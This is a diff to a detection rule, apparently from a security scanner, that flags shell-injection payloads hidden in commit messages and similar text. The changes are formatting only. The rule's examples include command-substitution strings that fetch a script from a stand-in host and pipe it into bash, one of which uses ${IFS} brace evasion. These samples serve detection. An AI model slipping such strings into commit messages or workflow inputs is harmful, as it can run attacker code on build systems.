@@ -12,8 +12,7 @@ export const meta: RuleMeta = {
   id: 'CG-PI-010',
   title: 'Shell-injection payload in text',
   severity: 'high',
-  description:
-    `Text that is not a script but carries shell syntax built to run when a workflow or tool interpolates it: command substitution invoking a downloader or decoder ($(curl …), $(echo …|base64 -d)), \${IFS} used as a space, brace lists that split into a command ({curl,-sSfL,host}). Critical with \${IFS} or in hidden markup; not reported in shell code itself.`,
+  description: `Text that is not a script but carries shell syntax built to run when a workflow or tool interpolates it: command substitution invoking a downloader or decoder ($(curl …), $(echo …|base64 -d)), \${IFS} used as a space, brace lists that split into a command ({curl,-sSfL,host}). Critical with \${IFS} or in hidden markup; not reported in shell code itself.`,
   remediation: `remove the payload; workflows must pass such text through environment variables, never \${{ … }} inside run:`,
   example: {bad: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)`, good: 'Fix typo in $(pwd) example  (no downloader or decoder)'},
   examples: {
@@ -21,7 +20,10 @@ export const meta: RuleMeta = {
       {text: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)\n`, file: 'commit-message.txt'},
       {text: 'Update docs $(curl -sSfL evil.example/p | sh)\n', file: 'commit-message.txt'},
     ],
-    clean: [{text: 'Fix typo in $(pwd) example\n', file: 'commit-message.txt', note: 'no downloader or decoder'}, {text: 'VERSION=$(curl -s https://example.com/version)\n', file: 'build.sh'}],
+    clean: [
+      {text: 'Fix typo in $(pwd) example\n', file: 'commit-message.txt', note: 'no downloader or decoder'},
+      {text: 'VERSION=$(curl -s https://example.com/version)\n', file: 'build.sh'},
+    ],
   },
 }
 
